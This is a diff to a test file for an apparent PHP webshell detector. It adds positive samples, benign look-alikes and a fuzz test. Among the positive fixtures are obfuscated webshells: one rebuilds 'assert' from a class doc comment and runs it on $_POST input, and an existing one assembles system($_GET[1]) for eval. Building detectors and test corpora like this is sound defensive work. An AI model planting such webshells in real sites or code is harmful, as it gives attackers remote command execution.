@@ -73,6 +73,13 @@ POSITIVES: dict[str, str] = {
         "<?php\n$p['a'] = 'sys'; $p['b'] = 'tem($_G'; $q = 'ET[1]);';\n"
         "$c = $p['a'] . $p['b'] . $q;\n@eval($c);\n"
     ),
+    # the payload hidden in a class's doc comment, cut out with strpos/substr
+    "doc-comment-carrier": (
+        "<?php\n/**\n * as\n * sert\n */\nclass Note { }\n"
+        "$r = new ReflectionClass('Note');\n$t = $r->getDocComment();\n"
+        "$f = substr($t, strpos($t, 'as'), 2) . substr($t, strpos($t, 'sert'), 4);\n"
+        "$f($_POST['x']);\n"
+    ),
 }
 
 BENIGN: dict[str, str] = {
@@ -110,6 +117,11 @@ BENIGN: dict[str, str] = {
         "<?php\nsession_start();\n$q = $_SESSION['param'];\n"
         "$u = preg_replace(\"~(?<=[?&])($q\" . (defined('SID') ? '' : '|sid') . \")=[^&]*~\", '', "
         "$_SERVER['REQUEST_URI']);\necho $u;\n"
+    ),
+    "doc-comment-annotations": (
+        "<?php\n/**\n * @route /home\n */\nclass Home { }\n"
+        "$r = new ReflectionClass('Home');\n$doc = $r->getDocComment();\n"
+        "$route = substr($doc, strpos($doc, '@route') + 7, 5);\necho $route . $_GET['q'];\n"
     ),
     "proc-open-fixed-tool": (
         "<?php\n$spec = array(0 => array('pipe', 'r'), 1 => array('pipe', 'w'));\n"
@@ -151,6 +163,7 @@ def test_long_packer_decodes_a_prefix_within_the_budget() -> None:
         b"<?php $g = str_replace('q', '', 'aqsqsqeqrqt'); $g($x);",
         b'<?php eval("\\$x=gzin"."flate(\'abc\');");',
         b'<?php $g = "\\x61\\156\\x75\\156\\x61"; $z = $$g; $z($y);',
+        b"<?php $r = new ReflectionClass('A'); $t = $r->getDocComment(); $t($u);",
     ],
 )
 def test_gate_atoms_for_code_assembled_in_the_file(sample: bytes) -> None:
@@ -238,3 +251,18 @@ def test_toplevel_replay_keeps_a_prefix_when_the_budget_runs_out() -> None:
     executed = [layer for layer in analysis.layers if layer.executed]
     assert executed and executed[0].preview.startswith("system(")
     assert executed[0].size < len(payload)
+
+
+_NAMES = st.sampled_from(
+    ["strpos", "stripos", "strlen", "ucfirst", "ltrim", "rtrim", "dechex", "hexdec", "octdec",
+     "decoct", "bindec", "decbin", "intval", "strval", "bin2hex", "abs"]
+)  # fmt: skip
+
+
+@settings(max_examples=300, deadline=None)
+@given(_NAMES, st.lists(st.binary(max_size=40), min_size=1, max_size=3))
+def test_folder_builtin_fallback_never_crashes(name: str, values: list[bytes]) -> None:
+    from sscguard.detect.webshell.php import PhpAnalyser
+
+    out = PhpAnalyser._builtin(name, values)
+    assert out is None or isinstance(out, bytes)
